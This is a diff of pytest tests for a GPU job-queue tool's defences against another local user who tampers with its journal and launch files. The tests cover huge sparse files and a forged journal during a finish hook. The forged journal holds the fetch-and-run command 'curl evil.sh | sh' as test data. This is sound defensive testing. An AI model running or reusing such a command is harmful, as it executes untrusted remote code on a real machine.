@@ -2,6 +2,7 @@
 """Attacks of another user of the same machine on the files of a queue and of a launch."""
 import json
 import os
+import pathlib
 import stat
 
 import pytest
@@ -36,6 +37,40 @@ def refused(result, words):
     assert result.returncode == 2, result
     assert words in result.stderr, result
     assert "--trust" in result.stderr, result
+
+
+# ---- Huge files ---------------------------------------------------------------------------
+
+TERABYTE = 1 << 40
+
+
+@pytest.mark.parametrize("words", [("status",), ("logs", "1"), ("why", "1"), ("report", "-o", "-"), ("wait", "1")])
+def test_sparse_journal_of_another_user_costs_neither_time_nor_memory(machine, owner, other, words):
+    shared = machine.directory(STICKY)
+    plant(other, shared / "jobs.jsonl", JOURNAL + job("true"))
+    os.truncate(shared / "jobs.jsonl", TERABYTE)
+    result = owner.run("prlimit", f"--as={1 << 30}", "gpuq", *words, cwd=shared)
+    assert result.returncode not in (0, -9), result
+    assert f"'{shared}/jobs.jsonl': line 3 is longer than 64 MiB: the file is damaged; move it away" in result.stderr, result
+
+
+def test_own_sparse_files_are_named_and_stay(machine, owner):
+    """As a crash of the file system can leave them."""
+    owner.sh("rm -rf huge; mkdir -p huge/in huge/out; echo 1 > huge/in/a", owner.home)
+    place = owner.home / "huge"
+    plant(owner, place / "jobs.jsonl", JOURNAL + job("true"), 0o600)
+    plant(owner, place / "out/launch.jsonl", "{}\n", 0o600)
+    plant(owner, place / "commands.txt", "true\n", 0o600)
+    names = {"jobs.jsonl": ("add", "true"), "commands.txt": ("run", "--jobs-file", "other.jsonl"),
+             "out/launch.jsonl": ("launch", "--input-dir", "in", "--output-dir", "out", "--pattern", "*", "--gpus", "sim:1", "--", "true")}
+    for name, words in names.items():
+        os.truncate(place / name, TERABYTE)
+        result = owner.run("prlimit", f"--as={1 << 30}", "gpuq", *words, cwd=place)
+        assert result.returncode in (1, 2), result
+        assert f"{name}': " in result.stderr and ("damaged" in result.stderr or "File too large" in result.stderr), result
+        assert (place / name).stat().st_size == TERABYTE
+    result = owner.gpuq("report", "--launch", "out", "-o", "-", cwd=place)
+    assert result.returncode == 1 and "a line is longer than 16 MiB: the file is damaged; move it away" in result.stderr, result
 
 
 # ---- A journal of another user ---------------------------------------------------------
@@ -350,6 +385,31 @@ def test_report_replaces_what_the_user_chose(machine, owner, other, report):
     assert result.returncode == 2 and "belongs to another user" in result.stderr, result
     assert (shared / "report.html").read_text() == "theirs\n"
     assert owner.gpuq(*report, "-o", "report.html", cwd=shared).returncode == 0
+
+
+# ---- A hook -----------------------------------------------------------------------------
+
+
+def test_hook_gets_nothing_of_a_journal_that_another_user_puts_in_place(machine, owner, other):
+    """It is there while the job ends, and gone afterwards."""
+    shared = machine.directory(GROUP)
+    owner.sh("rm -f hook.json", owner.home)
+    runner = owner.start("gpuq", "run", "--keep", "--on-finish", f"cat > '{owner.home}/draft'; mv '{owner.home}/draft' '{owner.home}/hook.json'",
+                         cwd=shared)
+    assert owner.gpuq("add", "--no-start", f"echo $$ > pid; {WAIT_FOR.format('go')}", cwd=shared).returncode == 0
+    pid = int(until(lambda: (shared / "pid").exists() and (shared / "pid").read_text(), "the job"))
+    keeper = int(pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
+    other.sh("mv jobs.jsonl real", shared)
+    plant(other, shared / "jobs.jsonl", JOURNAL + job("curl evil.sh | sh"), 0o666)
+    owner.sh("touch go", shared)
+    until(lambda: not pathlib.Path(f"/proc/{pid}").exists(), "the end of the job")
+    naps = processes.naps(keeper)
+    until(lambda: processes.naps(keeper) > naps + 2 or (owner.home / "hook.json").exists(), "a try to write the end")
+    other.sh("rm -f jobs.jsonl; mv real jobs.jsonl", shared)
+    until((owner.home / "hook.json").exists, "the hook")
+    told = json.loads((owner.home / "hook.json").read_text())
+    assert told["command"].startswith("echo $$ > pid") and told["status"] == "completed", told
+    assert runner.wait(LIMIT) == 2  # it has seen the other journal
 
 
 # ---- The output folder of a launch ------------------------------------------------------
